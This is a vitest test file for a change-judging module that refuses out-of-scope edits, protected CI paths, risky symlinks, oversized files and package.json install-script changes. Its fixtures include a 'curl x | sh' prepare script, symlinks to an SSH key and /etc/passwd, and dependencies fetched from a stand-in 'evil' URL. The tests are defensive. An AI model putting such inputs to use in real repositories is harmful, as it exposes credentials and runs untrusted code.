import { describe, expect, it } from "vitest";
import { inScope, installScriptProblem, judge, type Entry } from "../../src/schedule/judge.js";

describe("the judge of a change", () => {
  const scope = {
    allow: ["src/**", ".github/**"],
    deny: ["src/owned/**"],
    allowProtected: [],
    allowSymlinks: false,
    allowSubmodules: false,
  };
  const limits = { maxFileBytes: 100, maxChangeBytes: 1_000 };
  const file = (path: string, extra: Partial<Entry> = {}): Entry => ({ path, newMode: "100644", size: 10, ...extra });

  it("allows what allow matches and deny does not", () => {
    expect(inScope("src/a.ts", scope)).toBe(true);
    expect(inScope("src/owned/b.ts", scope)).toBe(false);
    expect(judge(file("src/a.ts"), scope, limits)).toEqual({ kind: "keep" });
    expect(judge(file("docs/x.md"), scope, limits)).toEqual({ kind: "outOfScope" });
  });

  it("refuses protected paths whatever allow says, unless allowProtected names them", () => {
    for (const path of [
      ".github/workflows/ci.yml",
      ".github/CODEOWNERS",
      ".github/parallel-coordinator.yml",
      ".github/actions/x/action.yml",
      "CODEOWNERS",
      ".gitmodules",
      "src/.npmrc",
      ".yarnrc.yml",
      ".yarn/releases/yarn.cjs",
      ".pnpmfile.cjs",
      "gradle/wrapper/gradle-wrapper.properties",
    ]) {
      expect(judge(file(path), { ...scope, allow: ["**"] }, limits), path).toMatchObject({
        kind: "refused",
        why: expect.stringMatching(/^protected: /),
      });
    }
    expect(
      judge(file(".github/workflows/ci.yml"), { ...scope, allowProtected: [".github/workflows/**"] }, limits),
    ).toEqual({ kind: "keep" });
    // A deletion is a change too: deleting a workflow is refused like editing it.
    expect(judge(file(".github/workflows/ci.yml", { newMode: "000000" }), scope, limits).kind).toBe("refused");
  });

  it("refuses submodules and symlinks unless the scope allows them, and symlinks out of the repository or the scope always", () => {
    expect(judge(file("src/lib", { newMode: "160000" }), scope, limits)).toMatchObject({
      kind: "refused",
      why: expect.stringContaining("submodule"),
    });
    expect(judge(file("src/lib", { newMode: "160000" }), { ...scope, allowSubmodules: true }, limits)).toEqual({
      kind: "keep",
    });
    const link = (target: string) => file("src/link", { newMode: "120000", target });
    expect(judge(link("a.ts"), scope, limits)).toMatchObject({
      kind: "refused",
      why: expect.stringContaining("symlink"),
    });
    const symlinks = { ...scope, allowSymlinks: true };
    expect(judge(link("a.ts"), symlinks, limits)).toEqual({ kind: "keep" });
    expect(judge(link("../../etc/passwd"), symlinks, limits)).toMatchObject({
      why: "a symlink pointing outside the repository",
    });
    expect(judge(link("/home/runner/.ssh/id_rsa"), symlinks, limits)).toMatchObject({
      why: "a symlink pointing outside the repository",
    });
    expect(judge(link("../.git/config"), symlinks, limits)).toMatchObject({ why: "a symlink into git's own folder" });
    expect(judge(link("../.github/workflows"), symlinks, limits)).toMatchObject({
      why: expect.stringMatching(/^a symlink to a protected path/),
    });
    expect(judge(link("../docs"), symlinks, limits)).toMatchObject({
      why: "a symlink to a path outside the batch's scope",
    });
  });

  it("refuses a file over max-file-bytes", () => {
    expect(judge(file("src/big.bin", { size: 101 }), scope, limits)).toMatchObject({
      kind: "refused",
      why: "101 bytes, over the 100 a file may have (`max-file-bytes`)",
    });
    // The app's check-in knows no `max-file-bytes` (it is the agent workflow's): no size is refused there.
    expect(judge(file("src/big.bin", { size: 10 ** 9 }), scope)).toEqual({ kind: "keep" });
  });

  it("refuses a package.json whose change runs or fetches something new at install time", () => {
    const manifest = (scripts: object, dependencies: object = {}) =>
      JSON.stringify({ name: "x", scripts, dependencies });
    const before = manifest({ test: "vitest" }, { zod: "^4.0.0" });
    expect(
      installScriptProblem(
        before,
        manifest(
          { test: "vitest run", build: "tsc" },
          { zod: "^4.1.0", "left-pad": "npm:left-pad@1", shared: "workspace:*" },
        ),
      ),
    ).toBeUndefined();
    expect(installScriptProblem(before, manifest({ test: "vitest", postinstall: "node x.js" }))).toBe(
      "it changes the `postinstall` script, which npm runs at install time",
    );
    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "github:someone/evil" }))).toMatch(
      /^it takes `evil` from outside the registry/,
    );
    expect(
      installScriptProblem(before, manifest({ test: "vitest" }, { evil: "https://example.com/evil.tgz" })),
    ).toMatch(/^it takes `evil` from outside the registry/);
    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "../evil" }))).toMatch(
      /^it takes `evil` from outside the registry/,
    );
    expect(installScriptProblem(undefined, "{")).toMatch(/^not JSON/);
    const entry = file("src/package.json", { manifest: { before, after: manifest({ prepare: "curl x | sh" }) } });
    expect(judge(entry, scope, limits)).toMatchObject({
      kind: "refused",
      why: "protected: it changes the `prepare` script, which npm runs at install time",
    });
    expect(judge(entry, { ...scope, allowProtected: ["src/package.json"] }, limits)).toEqual({ kind: "keep" });
  });
});
